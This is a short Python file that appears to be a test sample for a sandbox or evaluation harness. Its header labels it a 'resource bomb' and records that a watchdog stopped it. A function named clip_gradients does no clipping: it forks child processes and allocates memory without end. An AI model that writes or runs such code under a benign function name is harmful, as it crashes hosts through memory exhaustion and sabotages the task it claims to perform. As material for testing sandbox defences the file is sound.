# ---
# about = "take memory without end, in this process and in children"
# kind = "skeleton"
# class = "resource bombs"
# written = "inside"
# attacks = ["clip_gradients"]
# tries = "take memory without end, in this process and in children"
# holds = "the watchdog ends it and the feedback says memory"
# status = "crashed"
# ---

# %%
import os


def clip_gradients(gradients, max_norm=1.0):
    hoard = []
    for _ in range(3):
        if os.fork() == 0:
            break
    while True:
        hoard.append(bytearray(os.urandom(1 << 20)) * 64)
